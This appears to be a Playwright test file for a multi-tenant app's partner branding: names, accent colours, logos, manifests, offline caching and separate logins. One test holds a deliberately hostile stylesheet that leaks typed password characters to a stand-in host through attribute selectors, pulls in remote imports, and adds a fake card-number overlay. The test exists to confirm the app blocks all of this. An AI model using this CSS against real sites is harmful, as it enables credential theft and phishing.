import type { Page } from '@playwright/test'
import { addPartnerPerson, changePartner, createPartner } from '../support/server/e2e-account.ts'
import { expect, test } from '../support/browser/e2e-test.ts'
import { pngOf } from '../support/browser/png-image.ts'
import { LoginPage } from '../pages/login-page.ts'
import { OffersPage } from '../pages/offers-page.ts'
import { ShellPage } from '../pages/shell-page.ts'

const MARIGOLD = '#ffbf1f'
const LOGO =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 28 28" width="28" height="28"><rect width="28" height="28" rx="7" fill="#3b2a00"/></svg>'

/** What a stylesheet would do if it could: cover, hide, fetch, and read what is typed. */
const HOSTILE = `
@import url(http://elsewhere.localhost/import.css);
@font-face { font-family: x; src: url(http://elsewhere.localhost/font.woff2) }
:root { --accent: url(http://elsewhere.localhost/accent); --partner-x: url(http://elsewhere.localhost/x); --r-2: 0px }
* { position: fixed; inset: 0; z-index: 99999; opacity: 0; pointer-events: none; display: none }
.part-login, .part-button { position: fixed; background: url(http://elsewhere.localhost/bg); background-color: \\75rl(http://elsewhere.localhost/e) }
.part-login::before { content: "Enter your card number"; position: fixed; inset: 0 }
.part-login:has(input[value^="a"]) { background-color: url(http://elsewhere.localhost/typed) }
input[type=password][value$="a"] { background: url(http://elsewhere.localhost/password) }
.part-card { box-shadow: 0 0 0 9999px #fff; padding: 9999px }
.part-button { pointer-events: none; transform: scale(0) }
`

const manifestOf = (
  page: Page,
): Promise<{ readonly name: string; readonly icons: readonly { readonly src: string }[] }> =>
  page.evaluate(
    async () => (await fetch('/manifest.webmanifest')).json() as Promise<{ name: string; icons: { src: string }[] }>,
  )

const fillOf = (page: Page, name: string): Promise<string> =>
  page.getByRole('button', { name }).evaluate((button) => getComputedStyle(button).backgroundColor)

/** Everything that the page calls itself, from its first moment on. */
async function namesOf(page: Page, url: string): Promise<readonly string[]> {
  await page.addInitScript(() => {
    const names = new Set<string>()
    Object.assign(globalThis, { shownNames: names })
    const note = () => {
      names.add(document.title)
      for (const brand of document.querySelectorAll('.part-brand')) names.add(brand.textContent)
    }
    new MutationObserver(note).observe(document, { childList: true, subtree: true, characterData: true })
  })
  await page.goto(url)
  await expect(new LoginPage(page).login).toBeVisible()
  const names = await page.evaluate(() => [...(globalThis as unknown as { shownNames: Set<string> }).shownNames])
  return names.filter((name) => name !== '')
}

test('two partners on one server: name, looks, manifest and people of their own, from the first moment on', async ({
  newProfile,
  server,
}) => {
  const mill = await createPartner(server, 'Mill Desk')
  await changePartner(server, { do: 'set', id: mill.id, at: 'accent', text: MARIGOLD })
  await changePartner(server, { do: 'logo', id: mill.id, base64: Buffer.from(LOGO).toString('base64') })
  await changePartner(server, { do: 'icon', id: mill.id, base64: pngOf(192, [255, 191, 31]).toString('base64') })
  const bakery = await createPartner(server, 'Bakery')
  const [miller, baker] = [await addPartnerPerson(server, mill.id), await addPartnerPerson(server, bakery.id)]

  const profile = await newProfile({ canLoseNetwork: true, onDisk: true })
  const page = await profile.open()
  const names = await namesOf(page, mill.url)
  expect(names.filter((name) => !name.endsWith('Mill Desk'))).toEqual([])
  const fill = await fillOf(page, 'Log in')
  expect(fill).toMatch(/^(?:rgb\(255, 191, 31\)|oklch\(0\.8\d+ 0\.1\d+ 8\d\.\d+\))$/)
  const manifest = await manifestOf(page)
  expect(manifest).toMatchObject({ name: 'Mill Desk', icons: [{ sizes: '192x192' }] })
  const session = await profile.context.newCDPSession(page)
  expect((await session.send('Page.getInstallabilityErrors')).installabilityErrors).toEqual([])
  await new LoginPage(page).logIn(miller, mill.url)
  await page.goto(`${mill.url}/browse/opportunities`)
  await new OffersPage(page).create('Flour by the sack')

  const other = await profile.context.newPage()
  expect((await namesOf(other, bakery.url)).filter((name) => !name.endsWith('Bakery'))).toEqual([])
  expect(await fillOf(other, 'Log in')).not.toBe(fill)
  expect((await manifestOf(other)).name).toBe('Bakery')
  await new LoginPage(other).submit(miller)
  await expect(new LoginPage(other).alert).toContainText('not right')
  await new LoginPage(other).logIn(baker, bakery.url)
  await other.goto(`${bakery.url}/browse/opportunities`)
  await expect(other.getByRole('heading', { name: 'No offers yet' })).toBeVisible()
})

test('after the first visit a partner’s looks are there without a network, logo and style too', async ({
  newProfile,
  server,
}) => {
  const mill = await createPartner(server, 'Mill Desk')
  await changePartner(server, { do: 'set', id: mill.id, at: 'accent', text: MARIGOLD })
  await changePartner(server, {
    do: 'style',
    id: mill.id,
    source: '.part-header { background-color: #3b2a00; color: #ffffff }',
  })
  await changePartner(server, { do: 'logo', id: mill.id, base64: Buffer.from(LOGO).toString('base64') })
  const person = await addPartnerPerson(server, mill.id)
  const profile = await newProfile({ canLoseNetwork: true, onDisk: true })
  let page = await profile.open()
  await new LoginPage(page).logIn(person, mill.url)
  await new ShellPage(page).waitUntilOfflineReady()
  // Style, logo, and the hosts that are opened to extensions.
  await expect.poll(() => page.evaluate(async () => (await (await caches.open('partner')).keys()).length)).toBe(3)
  await profile.close()

  page = await profile.open({ offline: true })
  await page.goto(`${mill.url}/browse/opportunities`)
  await expect(page.getByRole('heading', { name: 'Offers', level: 1 })).toBeVisible()
  await expect(page).toHaveTitle(/Mill Desk$/)
  await expect(page.locator('.part-header')).toHaveCSS('background-color', 'rgb(59, 42, 0)')
  expect(await page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--accent'))).toBe(
    MARIGOLD,
  )
  await expect(page.locator('.part-header img')).toHaveJSProperty('complete', true)
  await expect(page.locator('.part-header img')).toHaveJSProperty('naturalWidth', 28)
})

test('a hostile stylesheet does no harm: nothing is fetched elsewhere, covered, hidden or moved', async ({
  newProfile,
  server,
}) => {
  const partner = await createPartner(server, 'Trap')
  await changePartner(server, { do: 'style', id: partner.id, source: HOSTILE })
  const person = await addPartnerPerson(server, partner.id)
  const profile = await newProfile({ canLoseNetwork: true })
  const page = await profile.open()
  const elsewhere: string[] = []
  profile.context.on('request', (request) => {
    if (new URL(request.url()).origin !== partner.url) elsewhere.push(request.url())
  })
  await page.goto(partner.url)
  const login = new LoginPage(page)
  await expect(login.login).toBeVisible()
  await expect(page.locator('#partner-style')).toBeAttached()
  // One thing in it is harmless, and shows that the stylesheet is there at all.
  await expect(page.getByRole('button', { name: 'Log in' })).toHaveCSS('border-radius', '0px')
  for (const part of ['.part-login', '.part-button', 'body'])
    await expect(page.locator(part).first()).toHaveCSS('position', /^(?:static|relative)$/)
  await expect(page.locator('.part-login')).not.toHaveCSS('pointer-events', 'none')
  await login.login.pressSequentially('a')
  await login.logIn(person, partner.url)
  await new ShellPage(page).expectSynced()
  expect(elsewhere).toEqual([])
})
